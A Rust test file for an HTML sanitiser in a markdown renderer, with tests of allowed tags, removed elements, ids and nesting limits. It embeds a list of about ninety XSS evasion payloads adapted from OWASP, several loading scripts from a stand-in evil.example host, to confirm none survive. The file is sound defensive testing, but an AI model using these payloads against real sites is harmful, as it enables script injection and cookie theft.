//! What passes, what is taken out, and what cannot get through.

use super::*;
use crate::markdown::clean::balance;
use crate::markdown::tests::dom::hostile;
use proptest::prelude::*;

/// Builds anew with every address as it is.
fn rebuilt(piece: &str) -> (String, Vec<String>) {
    let (html, removed) =
        rebuild(piece, &mut Open::default(), &mut |_, _, value| Ok(value.to_owned()));
    (html, removed.into_iter().map(|one| one.what).collect())
}

#[test]
fn what_is_allowed_passes() {
    for (piece, html) in [
        ("<kbd>Ctrl</kbd>", "<kbd>Ctrl</kbd>"),
        ("<DIV Title='a \"b\"'>x</DIV >", "<div title=\"a &quot;b&quot;\">x</div>"),
        ("<br/><hr /></br>", "<br><hr>"),
        ("<details open><summary>x</summary>", "<details open=\"\"><summary>x</summary>"),
        ("a &amp; b &lt; c > d", "a &amp; b &lt; c > d"),
        ("1 < 2 <3 </ x", "1 &lt; 2 &lt;3 &lt;/ x"),
        ("<center><font>x</font></center>", "<div><span>x</span></div>"),
        ("<td colspan=2 title=caf&eacute;>", "<td colspan=\"2\" title=\"caf&eacute;\">"),
        ("<a href=x title=1 title=2>", "<a href=\"x\" title=\"1\">"),
        ("<ruby>快<rt>kuài</rt></ruby>", "<ruby>快<rt>kuài</rt></ruby>"),
        ("a<!-- b -->c<!---->d<!-->e<!-- f", "acde"),
        ("<img src=a.png alt='快手'>", "<img src=\"a.png\" alt=\"快手\">"),
    ] {
        assert_eq!(rebuilt(piece), (html.to_owned(), vec![]), "{piece}");
    }
}

#[test]
fn what_is_taken_out_is_told_once() {
    for (piece, html, removed) in [
        ("<script>alert(1)</script>x", "x", vec!["`<script>`"]),
        ("<ScRiPt\n>a</b></sCript x>x</script>", "x", vec!["`<script>`"]),
        (
            "<style>b{}</style ><b style='x' onclick=y>",
            "<b>",
            vec!["`<style>`", "attribute `style`", "attribute `onclick`"],
        ),
        ("<form><input name=a>x</form>", "x", vec!["`<form>`", "`<input>`"]),
        ("<iframe src=//evil.example>", "", vec!["`<iframe>`"]),
        (
            "<!DOCTYPE html><?php echo 1 ?><![CDATA[a>b]]>x",
            "x",
            vec!["`<!DOCTYPE>`", "`<?php>`", "`<!>`"],
        ),
        ("<a href='javascript:alert(1)'>", "<a>", vec!["address `javascript:`"]),
        ("<a href=' java\nscript&colon;alert(1)'>", "<a>", vec!["address `javascript:`"]),
        ("<a href='&#106&#X61;&#0000118;ascript:x'>", "<a>", vec!["address `javascript:`"]),
        ("<img src=data:image/png;base64,x alt='a <b>'>", "a &lt;b&gt;", vec!["address `data:`"]),
        (
            "<p src=x href=y cite=z>",
            "<p>",
            vec!["attribute `src`", "attribute `href`", "attribute `cite`"],
        ),
        ("<svg><a href=x>y</a></svg>z", "z", vec!["`<svg>`"]),
        ("<svg/>z", "z", vec!["`<svg>`"]),
        ("<video src=a>none</video>", "", vec!["`<video>`"]),
    ] {
        let (out, told) = rebuilt(piece);
        assert_eq!(
            (&out[..], told),
            (html, removed.into_iter().map(str::to_owned).collect()),
            "{piece}"
        );
    }
}

#[test]
fn places_are_those_of_the_piece() {
    let piece = "快 <b class=x>y</b> <script>z</script>";
    let (_, removed) = rebuild(piece, &mut Open::default(), &mut |_, _, _| Err("mend it"));
    let places: Vec<&str> = removed.iter().map(|one| &piece[one.range.clone()]).collect();
    assert_eq!(places, ["class=x", "<script>"]);
}

#[test]
fn addresses_are_asked_for_as_a_browser_reads_them() {
    let mut asked = Vec::new();
    let (html, removed) = rebuild(
        "<a href=' ../快手.md?a=1&amp;b=2&copy=3#x '><img src=\"a&quot;b.png\"><q cite=no>",
        &mut Open::default(),
        &mut |tag, attribute, value| {
            asked.push(format!("{tag} {attribute} {value}"));
            if value == "no" { Err("mend it") } else { Ok(format!("<{value}>")) }
        },
    );
    assert_eq!(asked, ["a href ../快手.md?a=1&b=2&copy=3#x", "img src a\"b.png", "q cite no"]);
    assert_eq!(
        html,
        "<a href=\"&lt;../快手.md?a=1&amp;b=2&amp;copy=3#x&gt;\"><img src=\"&lt;a&quot;b.png&gt;\"><q>"
    );
    assert_eq!(removed[0].what, "address `no`");
    assert_eq!(removed[0].help, Some("mend it"));
}

#[test]
fn a_name_of_old_is_a_place_that_links_can_lead_to() {
    assert_eq!(
        rebuilt("<a name=\"top\"></a><p name=x>"),
        ("<a id=\"top\"></a><p>".to_owned(), vec!["attribute `name`".to_owned()])
    );
    assert_eq!(
        anchors("<a name=\"top\" id='x'></a> <h2 id=b&amp;c> <p name=no> </a id=no> <i"),
        ["top", "b&c"]
    );
}

#[test]
fn no_place_is_named_twice() {
    let twice = "<p id=a>1<p id=a>2<a name=a></a><p id=page.main><p id=''>";
    assert_eq!(rebuilt(twice).0, "<p id=\"a\">1<p>2<a></a><p><p>");
    let mut open = Open::new("e2-", HashSet::from(["b".to_owned()]));
    let (html, _) = rebuild("<p id=a><p id=b>", &mut open, &mut |_, _, _| Err(""));
    assert_eq!(html, "<p id=\"e2-a\"><p>");
}

#[test]
fn what_nests_past_all_measure_is_cut_off_and_told_once() {
    let (html, removed) = rebuilt(&"<div><p>".repeat(1000));
    assert_eq!(html.matches("<div>").count(), MAX_OPEN);
    assert_eq!(html.matches("<p>").count(), 1000);
    assert_eq!(removed, ["`<div>` and what else nests deeper than 128"]);
    let (html, removed) = rebuilt(&"<div><b>x</b></div>".repeat(1000));
    assert_eq!((html.matches("<div>").count(), removed.len()), (1000, 0));
}

#[test]
fn a_tag_that_never_ends_is_text() {
    assert_eq!(rebuilt("<b>x</b><a href='x"), ("<b>x</b>&lt;a href='x".to_owned(), vec![]));
    assert_eq!(rebuilt("<script <b"), ("&lt;script &lt;b".to_owned(), vec![]));
    assert_eq!(rebuilt("</b"), ("&lt;/b".to_owned(), vec![]));
}

/// After OWASP's cheat sheet on filter evasion, and reports on sanitisers since.
const VECTORS: &str = r##"
<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(42);//'>
<a onmouseover="alert(document.cookie)">xxs link</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="&#x01;javascript:alert(1)">x</a>
<a href="&#1;&#2;&#x0B; javascript:alert(1)">x</a>
<a href="javas&#99;ript:alert(1)">x</a>
<a href="jav&#x0A;ascript:alert('XSS');">x</a>
<a href="jav&Tab;ascript&colon;alert&lpar;1&rpar;">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=`javascript:alert("x")`>x</a>
<a href="  javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="//evil.example/" style="x:expression(alert(1))">x</a>
<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>
<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>
<IMG SRC=# onmouseover="alert('xxs')">
<IMG SRC= onmouseover="alert('xxs')">
<IMG onmouseover="alert('xxs')">
<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>
<img src=x onerror="&#0000106&#0000097&#0000118&#0000097">
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>
<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>
<IMG SRC="jav	ascript:alert('XSS');">
<IMG SRC=" &#14; javascript:alert('XSS');">
<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>
<BODY onload!#$%&()*~+-_.,:;?@[/|\]^`=alert("XSS")>
<SCRIPT/SRC="https://evil.example/xss.js"></SCRIPT>
<<SCRIPT>alert("XSS");//\<</SCRIPT>
<SCRIPT SRC=https://evil.example/xss.js?< B >
<SCRIPT SRC=//evil.example/.j>
<IMG SRC="`<javascript:alert>`('XSS')"
</TITLE><SCRIPT>alert("XSS");</SCRIPT>
<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">
<BODY BACKGROUND="javascript:alert('XSS')">
<IMG DYNSRC="javascript:alert('XSS')">
<IMG LOWSRC="javascript:alert('XSS')">
<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>
<svg/onload=alert('XSS')>
<BGSOUND SRC="javascript:alert('XSS');">
<LINK REL="stylesheet" HREF="javascript:alert('XSS');">
<STYLE>@import'https://evil.example/xss.css';</STYLE>
<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">
<IFRAME SRC="javascript:alert('XSS');"></IFRAME>
<IFRAME srcdoc="<script>alert(1)</script>"></IFRAME>
<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>
<TABLE BACKGROUND="javascript:alert('XSS')"><TD BACKGROUND="javascript:alert('XSS')">
<DIV STYLE="background-image: url(javascript:alert('XSS'))">
<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->
<BASE HREF="javascript:alert('XSS');//">
<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>
<EMBED SRC="data:image/svg+xml;base64,PHN2Zy8+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>
<SCRIPT a=">" SRC="https://evil.example/xss.js"></SCRIPT>
<SCRIPT "a='>'" SRC="https://evil.example/xss.js"></SCRIPT>
<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://evil.example/xss.js"></SCRIPT>
<math><mi//xlink:href="data:x,<script>alert(4)</script>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<template><script>alert(1)</script></template>
<title><img src=x onerror=alert(1)></title>
<textarea></textarea><img src=x onerror=alert(1)>
<plaintext><script>alert(1)</script>
<xmp><p title="</xmp><svg/onload=alert(1)>">
<details open ontoggle=alert(1)><summary>x
<video><source onerror="alert(1)"></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<button formaction=javascript:alert(1)>x</button>
<p id="x" tabindex=1 onfocus=alert(1) autofocus>
<a href="https://example.com" ping="javascript:alert(1)" target=_blank>x</a>
<img srcset="javascript:alert(1) 1x" src=x>
<b/onclick=alert(1)//>x
<b
onclick
=
alert(1)>x
<x onclick=alert(1)>x</x>
<a title="</a><script>alert(1)</script>">x</a>
<img alt="x` `<script>alert(1)</script>"` `>
<a href="?x=%0d%0a<script>alert(1)</script>">
<wbr data-shelf="0"><i data-x="1" class="</i><script>">
<!--><script>alert(1)</script>-->
<!--a--!><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<div title=x/onmouseover=alert(1)>
<a href=javascript&colon;alert(1)>x</a>
<blockquote cite="javascript:alert(1)">
"##;

#[test]
fn no_known_vector_gets_through() {
    let mut count = 0;
    for vector in VECTORS.lines().filter(|line| !line.is_empty()).chain([VECTORS]) {
        let (html, _) = rebuilt(vector);
        assert_eq!(hostile(&html), Vec::<String>::new(), "{vector}\n{html}");
        let whole = balance(&html);
        assert_eq!(hostile(&whole), Vec::<String>::new(), "{vector}\n{whole}");
        count += 1;
    }
    assert!(count > 80);
}

#[test]
fn the_vectors_are_hostile_when_left_alone() {
    let harmless =
        VECTORS.lines().filter(|line| !line.is_empty() && hostile(line).is_empty()).count();
    assert!(harmless < 25, "{harmless}");
}

#[test]
fn hostile_sizes_take_linear_work() {
    for unit in ["<", "</", "<a ", "<a x='", "<!--", "<script>", "</script", "<b ", "&", "<div>"] {
        let piece = unit.repeat(100_000);
        let (html, _) = rebuilt(&piece);
        assert!(html.len() <= 5 * piece.len(), "{unit}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1_000))]

    #[test]
    fn nothing_hostile_survives(parts in proptest::collection::vec(part(), 0..16)) {
        let piece = parts.concat();
        let (html, removed) = rebuild(&piece, &mut Open::default(), &mut |_, _, value| Ok(value.to_owned()));
        prop_assert_eq!(hostile(&html), Vec::<String>::new(), "{}", html);
        prop_assert_eq!(hostile(&balance(&html)), Vec::<String>::new(), "{}", html);
        for one in removed {
            prop_assert!(piece.get(one.range).is_some());
        }
    }

    #[test]
    fn building_anew_twice_changes_nothing(parts in proptest::collection::vec(part(), 0..16)) {
        let (once, _) = rebuilt(&parts.concat());
        prop_assert_eq!(rebuilt(&once), (once, vec![]));
    }

    #[test]
    fn any_text_is_taken(piece in "\\PC{0,60}") {
        let (html, _) = rebuilt(&piece);
        prop_assert_eq!(hostile(&html), Vec::<String>::new());
    }
}

/// Gives a piece of hostile markup.
fn part() -> impl Strategy<Value = &'static str> {
    proptest::sample::select(
        r#"<¦>¦</¦/>¦/¦ ¦"¦'¦=¦`¦&¦;¦!¦-¦--¦-->¦<!--¦<!¦<?¦]]>¦<![CDATA[¦a¦b¦快¦script¦style¦svg¦math¦title¦img¦
            ¦onclick¦=alert(1)¦href¦src¦javascript:¦data:¦&colon;¦&#58;¦&#x3A¦&Tab;¦<a href="¦<img src=¦
            ¦<script>¦</script>¦<style>¦</style>¦<svg>¦</svg>¦<table>¦<td>¦<p>¦</p>¦<b>¦<div title='¦<textarea>
            ¦<noscript>¦<template>¦<plaintext>¦<xmp>¦<select>¦<mtext>¦<mglyph>¦<form>¦<a¦<img¦ onerror=¦ style="#
            .split('¦')
            .collect::<Vec<_>>(),
    )
}
